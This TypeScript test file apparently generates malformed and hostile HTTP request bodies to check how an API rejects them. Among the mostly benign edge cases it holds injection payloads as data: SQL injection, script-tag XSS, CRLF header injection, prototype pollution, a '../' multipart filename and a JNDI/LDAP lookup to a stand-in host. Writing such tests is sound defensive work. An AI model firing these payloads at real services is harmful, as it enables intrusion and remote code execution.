/** Bodies that are too large, too deep, of the wrong type, or with injected syntax. */
import { type Draft, utf8, withHeaders, withoutHeaders } from "../bytes";
import { bodyMutations, type Mutation } from "./mutation";

const json = "application/json";
const form = "application/x-www-form-urlencoded";
const limit = 16 * 1024;
const nested = (depth: number, open: string, close: string) =>
  open.repeat(depth) + close.repeat(depth);
const ofLength = (length: number) => `{"name":"${"a".repeat(length - 11)}"}`;

const jsonMutations = bodyMutations(json, {
  "json that is empty": "",
  "json that is blank": " \r\n\t ",
  "json null": "null",
  "json true": "true",
  "json number": "1e400",
  "json text": '"a"',
  "json twice encoded": JSON.stringify('{"name":"a"}'),
  "json thrice encoded": JSON.stringify(JSON.stringify('{"name":"a"}')),
  "json array": "[]",
  "json array of objects": '[{"name":"a"}]',
  "json object without members": "{}",
  "json cut off": '{"name":"a',
  "json with more behind it": '{"name":"a"}{"name":"b"}',
  "json with a comma too many": '{"name":"a",}',
  "json with comments": '{/*a*/"name":"a"}',
  "json in single quotes": "{'name':'a'}",
  "json with a byte order mark": utf8('\ufeff{"name":"a"}'),
  "json in UTF-16": Buffer.from('\ufeff{"name":"a"}', "utf16le").toString("latin1"),
  "json with a member twice": '{"name":"a","name":"b","clientId":"a","clientId":"b"}',
  "json with __proto__": '{"__proto__":{"admin":true,"name":"a"},"name":"a"}',
  "json with constructor": '{"constructor":{"prototype":{"admin":true}},"name":"a"}',
  "json with toString and valueOf": '{"toString":1,"valueOf":1,"hasOwnProperty":1,"name":"a"}',
  "json with then": '{"then":"a","name":"a"}',
  "json with an object for a text": '{"name":{"$gt":""},"email":{"a":1},"clientId":{}}',
  "json with an array for a text": '{"name":["a"],"email":["a"],"clientId":["a"]}',
  "json with null for a text": '{"name":null,"email":null,"clientId":null}',
  "json with a number for a text": '{"name":1,"email":-0,"clientId":1e308}',
  "json with a NUL": '{"name":"a\\u0000b","email":"a\\u0000@b.c","clientId":"a\\u0000"}',
  "json with a raw NUL": '{"name":"a\0b"}',
  "json with a raw line break": '{"name":"a\nb"}',
  "json with a lone surrogate": '{"name":"\\ud800","email":"\\udfff@b.c","clientId":"\\ud83d"}',
  "json with bytes that are no UTF-8": '{"name":"\xff\xfe\x80"}',
  "json with an overlong byte": '{"name":"\xc0\xaf"}',
  "json with a coded surrogate": '{"name":"\xed\xa0\x80"}',
  "json with text from right to left": utf8('{"name":"\u202eneddih\u2066"}'),
  "json with nothing to see": utf8('{"name":"\u200b\u200d\ufeff\u00ad"}'),
  "json with many combining marks": utf8(`{"name":"a${"\u0301".repeat(500)}"}`),
  "json with letters that look alike": utf8('{"name":"\u0430dmin","email":"\u0430@b.c"}'),
  "json with half the planes": utf8('{"name":"\u{1f468}\u200d\u{1f469}\u{10ffff}"}'),
  "json with a dotless i": utf8('{"name":"\u0131\u0130\u00df\ufb03"}'),
  "json with SQL": `{"name":"a'); drop table users;--","email":"' or 1=1--@b.c"}`,
  "json with HTML": '{"name":"<script>alert(1)</script>","email":"<b>@b.c"}',
  "json with a line break escaped": '{"name":"a\\r\\nX-Injected: yes"}',
  "json with a template": `{"name":"{{7*7}}\${7*7}#{7*7}"}`,
  "json with a log pattern": `{"name":"\${jndi:ldap://evil.test/a}%n%x%s"}`,
  "json nested 1,000 deep": nested(1_000, "[", "]"),
  "json nested 8,000 deep": nested(8_000, "[", "]"),
  "json of objects 2,000 deep": `${'{"a":'.repeat(2_000)}1${"}".repeat(2_000)}`,
  "json with 2,000 members": `{${Array.from({ length: 1_500 }, (_, i) => `"m${i}":1`).join()}}`,
  "json with a number of 10,000 digits": `{"name":${"9".repeat(10_000)}}`,
  "json one byte below the limit": ofLength(limit - 1),
  "json of exactly the limit": ofLength(limit),
  "json one byte over the limit": ofLength(limit + 1),
  "json of 60,000 bytes": ofLength(60_000),
});

const formMutations = bodyMutations(form, {
  "form that is empty": "",
  "form of separators": "&&&&==&=&",
  "form with a parameter twice": "grant_type=a&grant_type=b&token=a&token=b",
  "form with an array": "client_id[]=a&client_id[0]=b",
  "form with __proto__": "__proto__[a]=1&__proto__=2&constructor=3",
  "form with empty parameters": "grant_type=&client_id=&client_secret=&token=",
  "form with another grant": "grant_type=password&username=a&password=b",
  "form with a percent sign alone": "grant_type=%&client_id=%&client_secret=%zz",
  "form with escapes that are no UTF-8": "grant_type=%ff&client_id=%fe&client_secret=%80",
  "form with raw bytes that are no UTF-8": "grant_type=\xff&client_id=\xfe",
  "form with NULs": "grant_type=client_credentials&client_id=%00&client_secret=%00",
  "form with a lone surrogate": "grant_type=client_credentials&client_id=%ed%a0%80&token=%ed%a0%80",
  "form with 5,000 parameters": "a&".repeat(5_000),
  "form of exactly the limit": `a=${"a".repeat(limit - 2)}`,
  "form one byte over the limit": `a=${"a".repeat(limit - 1)}`,
  "form of 60,000 bytes": "a".repeat(60_000),
  "form with a token of 16,000 letters": `token=${"a".repeat(16_000)}`,
  "form with tokens of dots": "token=.........&client_id=a&client_secret=b",
  "form that is JSON": '{"grant_type":"client_credentials"}',
});

const types = [
  ...["text/plain", "text/html", "text/xml", "application/xml", "application/octet-stream"],
  ...["multipart/form-data", "multipart/form-data; boundary=a", "application/json-patch+json"],
  ...["application/json; charset=utf-16", "application/json; charset=utf-7", "image/png"],
  ...["application/json;;;", "application/json, text/html", "APPLICATION/JSON", "json", "*/*"],
  ...[
    "application/x-www-form-urlencoded; charset=iso-8859-1",
    ";",
    "/",
    "a/b/c",
    "text/x-component",
  ],
  ...["application/jwt", "application/csp-report", "message/http", "\xff\xfe"],
];

const encodings = ["gzip", "deflate", "br", "zstd", "identity", "gzip, gzip", "aes128gcm", "x"];

const typeMutations = Object.fromEntries(
  types.map((type): [string, Mutation] => [
    `type ${JSON.stringify(type)}`,
    { mutate: (valid: Draft) => withHeaders(valid, ["Content-Type", type]) },
  ]),
);

const encodingMutations = Object.fromEntries(
  encodings.map((coding): [string, Mutation] => [
    `encoding ${coding}`,
    { mutate: (valid: Draft) => withHeaders(valid, ["Content-Encoding", coding]) },
  ]),
);

export const allBodyMutations: Record<string, Mutation> = {
  ...jsonMutations,
  ...formMutations,
  ...typeMutations,
  ...encodingMutations,
  "type twice": {
    mutate: (valid) => withHeaders(valid, ["Content-Type", "text/html"], ["Content-Type", json]),
  },
  "type missing": { mutate: (valid) => withoutHeaders(valid, "content-type") },
  "multipart with a file": {
    mutate: (valid) => ({
      ...withHeaders(valid, ["Content-Type", "multipart/form-data; boundary=a"]),
      body: '--a\r\nContent-Disposition: form-data; name="$ACTION_ID_a"; filename="../a"\r\n\r\nb\r\n--a--\r\n',
    }),
  },
};
